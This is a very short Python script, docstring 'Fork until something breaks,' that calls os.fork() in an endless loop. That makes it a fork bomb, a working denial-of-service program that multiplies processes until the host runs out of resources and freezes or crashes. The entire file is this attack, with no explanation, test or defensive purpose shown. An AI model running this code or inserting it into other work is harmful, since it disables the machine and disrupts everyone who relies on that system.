"""Fork until something breaks."""

import os

while True:
    os.fork()
